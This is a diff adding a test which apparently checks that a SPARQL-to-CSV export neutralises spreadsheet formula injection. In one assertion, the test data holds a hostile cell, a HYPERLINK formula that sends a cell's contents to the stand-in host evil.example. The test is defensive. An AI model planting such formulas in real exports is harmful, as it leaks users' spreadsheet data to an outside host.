@@ -145,3 +145,13 @@ def test_md_escape_renders_as_the_original_text():
         cell = md.render(md_table(["c"], [[s]]))
         shown = unescape(cell.split("<td>")[1].split("</td>")[0])
         assert shown.split() == s.split(), (s, shown)
+
+
+def test_sparql_csv_neutralises_formulas(hostile_ws):
+    q = ("PREFIX ci: <https://w3id.org/cigraph#> SELECT ?name (-0.5 AS ?score) WHERE { ?o a ci:Organization ;"
+         " ci:name ?name } ORDER BY ?name")
+    for extra in ([], ["--timeout", "0"]):  # streamed from the worker, and in process
+        result = run("sparql", q, "--format", "csv", "--workspace", str(hostile_ws), *extra)
+        cells = _assert_no_formula(result.stdout)
+        assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in cells
+        assert "-0.5" in cells
